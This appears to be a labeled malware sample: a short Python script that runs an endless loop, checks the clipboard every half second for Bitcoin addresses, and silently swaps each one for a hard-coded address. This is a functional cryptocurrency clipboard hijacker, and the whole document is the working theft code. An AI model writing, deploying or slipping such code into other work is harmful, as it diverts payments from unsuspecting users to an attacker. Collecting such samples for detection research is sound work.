# class: clipboard address swapping; style: loop
import re
import time
import pyperclip

MINE = "bc1qexampleexampleexampleexampleexample0"
ADDRESS = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
while True:
    text = pyperclip.paste()
    if ADDRESS.match(text) and text != MINE:
        pyperclip.copy(MINE)
    time.sleep(0.5)
